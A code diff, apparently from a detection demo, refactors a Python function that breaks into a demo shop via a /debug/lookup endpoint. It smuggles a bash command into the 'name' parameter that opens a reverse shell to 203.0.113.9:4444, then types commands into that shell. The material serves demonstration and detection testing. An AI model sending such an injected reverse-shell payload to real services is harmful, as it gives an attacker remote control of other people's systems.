@@ -1,6 +1,7 @@
 """The break-in: one HTTP request through the hole gives a shell on a socket, and somebody types into it.
 
-Both ends are in this machine: the attacker's address is a documentation address that exists only in the demo's network.
+Both ends are in this machine: the attacker's address is a documentation address that exists only in the demo's network. Whether
+that is the network of the demo's own containers or a Kubernetes node's is not known here.
 """
 
 import contextlib
@@ -8,12 +9,12 @@ import socket
 import threading
 import time
 from collections.abc import Callable
-
-from harness import Replica, World
+from contextlib import AbstractContextManager
+from typing import Protocol
 
 from demo.shop import get
 
-__all__ = ["ADDRESS", "PORT", "STEPS", "AttackError", "attack"]
+__all__ = ["ADDRESS", "PORT", "STEPS", "AttackError", "Network", "attack"]
 
 ADDRESS, PORT = "203.0.113.9", 4444
 LOOKUP = f"db-0; bash -c 'exec 3<>/dev/tcp/{ADDRESS}/{PORT}; exec sh <&3 >&3 2>&3'"
@@ -30,34 +31,45 @@ class AttackError(RuntimeError):
     """The break-in itself did not work: the demo is broken, not the detection."""
 
 
-def attack(world: World, replica: Replica, tell: Callable[[str], None]) -> None:
-    """Break into one replica, step by step; return when the attacker has left.
+class Network(Protocol):
+    """Where the attacker and the shop are."""
+
+    def connect(self, address: str, port: int, timeout: float = 5) -> socket.socket:
+        """Return a connection to an address of the shop."""
+
+    def listen(self, address: str, port: int) -> AbstractContextManager[socket.socket]:
+        """Wait for connections under an address that nobody else has."""
+
+
+def attack(network: Network, target: str, tell: Callable[[str], None]) -> str:
+    """Break into whoever answers at an address, step by step; return the address of who did when the attacker has left.
 
     Raises:
         AttackError: no shell came back, or a step gave no answer.
     """
-    with world.network.listen(ADDRESS, PORT) as listener:
+    with network.listen(ADDRESS, PORT) as listener:
         listener.settimeout(10)
-        tell(f"GET http://{replica.ip}:8080/debug/lookup?name={LOOKUP}")
-        request = threading.Thread(target=_request, args=(world, replica), daemon=True)
+        tell(f"GET http://{target}:8080/debug/lookup?name={LOOKUP}")
+        request = threading.Thread(target=_request, args=(network, target), daemon=True)
         request.start()
         try:
             shell, (address, _) = listener.accept()
         except OSError as error:
-            raise AttackError(f"no shell came back from {replica.name}: {error}") from None
+            raise AttackError(f"no shell came back from {target}: {error}") from None
         with shell:
-            tell(f"a shell of {replica.name} ({address}) is on the attacker's socket {ADDRESS}:{PORT}")
+            tell(f"a shell of {address} is on the attacker's socket {ADDRESS}:{PORT}")
             shell.settimeout(5)
             for command, meaning in STEPS:
                 time.sleep(TYPING_S)
                 tell(f"$ {command}   # {meaning}: {_type(shell, command)}")
             shell.sendall(b"exit\n")
         request.join(10)
+        return str(address)
 
 
-def _request(world: World, replica: Replica) -> None:
+def _request(network: Network, target: str) -> None:
     with contextlib.suppress(OSError):
-        get(world, replica, f"/debug/lookup?name={LOOKUP}", timeout=30)
+        get(network, target, f"/debug/lookup?name={LOOKUP}", timeout=30)
 
 
 def _type(shell: socket.socket, command: str) -> str:
